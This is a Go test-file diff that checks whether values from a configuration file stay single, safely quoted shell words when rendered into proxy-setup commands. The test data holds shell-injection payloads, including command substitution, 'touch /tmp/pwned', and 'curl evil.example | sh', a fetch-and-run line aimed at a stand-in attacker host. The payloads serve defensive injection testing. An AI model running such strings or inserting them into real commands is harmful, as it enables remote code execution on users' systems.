@@ -75,7 +75,7 @@ func TestShellQuoteIsOneWord(t *testing.T) {
 func TestHostileFactsStayOneWordInEveryCommand(t *testing.T) {
 	parser := syntax.NewParser()
 	const payload = "-x ;a$(touch /tmp/pwned)`id`'q\"d\nb *~ $HOME \\ !: curl evil.example | sh #"
-	for _, sample := range []string{"", "a: curl evil", "`id`", "x\ny"} {
+	for _, sample := range []string{"", "\x1b]0;x\a\xff"} {
 		checked := 0
 		for name, v := range hostileRenderings(payload + sample) {
 			tagged := taggedValues(v)
@@ -123,15 +123,18 @@ func hostileRenderings(payload string) map[string]Vars {
 	out := map[string]Vars{}
 	products := append(ProxyProducts(), "")
 	slices.Sort(products)
-	for _, scheme := range []string{"", "http", "https", "tcp", "tls"} {
-		for _, product := range products {
-			v := base
-			v.Scheme = scheme
-			if product != "" {
-				v.Product = product
-			}
-			out[fmt.Sprintf("%s %q", scheme, product)] = v
+	for _, product := range products { // the runbooks are the same for every scheme
+		v := base
+		v.Scheme = "https"
+		if product != "" {
+			v.Product = product
 		}
+		out[fmt.Sprintf("https %q", product)] = v
+	}
+	for _, scheme := range []string{"", "http", "https", "tcp", "tls"} {
+		hostile := base
+		hostile.Scheme = scheme
+		out[scheme] = hostile
 		direct := base
 		direct.Scheme, direct.Proxy, direct.ProxyEnv, direct.ProxyUser = scheme, "", "", ""
 		out[scheme+" direct"] = direct
@@ -388,4 +391,53 @@ func ansiC(s string) (string, bool) {
 		}
 	}
 	return b.String(), true
+}
+
+// A value the graph file wrote with ${VAR} goes as one word in which the
+// shell expands that reference and nothing else: "${TOKEN}" followed by
+// any hostile text reads as $TOKEN's value and the text as it is.
+func TestExpandingWordExpandsOnlyTheReference(t *testing.T) {
+	parser := syntax.NewParser()
+	for _, v := range append(hostileValues, "${a;b}", "${`id`}", "${}", "$${HOME}") {
+		if v == "${HOME}" {
+			continue // a reference the file wrote, expanded by design
+		}
+		command := "echo " + expandingWord("Bearer ${TOKEN}"+v)
+		f, err := parser.Parse(strings.NewReader(command), "")
+		if err != nil || len(f.Stmts) != 1 {
+			t.Errorf("%q: %s does not parse as one statement (%v)", v, command, err)
+			continue
+		}
+		args := f.Stmts[0].Cmd.(*syntax.CallExpr).Args
+		if len(args) != 2 {
+			t.Errorf("%q: %s has %d words", v, command, len(args))
+			continue
+		}
+		var b strings.Builder
+		ok := true
+		for _, part := range args[1].Parts {
+			dq, isDQ := part.(*syntax.DblQuoted)
+			if !isDQ {
+				lit, literal := wordLiteral(&syntax.Word{Parts: []syntax.WordPart{part}})
+				ok = ok && literal
+				b.WriteString(lit)
+				continue
+			}
+			for _, q := range dq.Parts {
+				switch q := q.(type) {
+				case *syntax.Lit:
+					b.WriteString(unescape(q.Value, func(c byte) bool { return strings.IndexByte("$`\"\\\n", c) >= 0 }))
+				case *syntax.ParamExp:
+					ok = ok && q.Param.Value == "TOKEN" && q.Exp == nil && q.Slice == nil && q.Repl == nil && q.Index == nil
+					b.WriteString("<" + q.Param.Value + ">")
+				default:
+					ok = false
+				}
+			}
+		}
+		want := "Bearer <TOKEN>" + strings.ReplaceAll(v, "$$", "$")
+		if !ok || b.String() != want {
+			t.Errorf("%q: %s reads as %q (only literal text and $TOKEN: %v), want %q", v, command, b.String(), ok, want)
+		}
+	}
 }
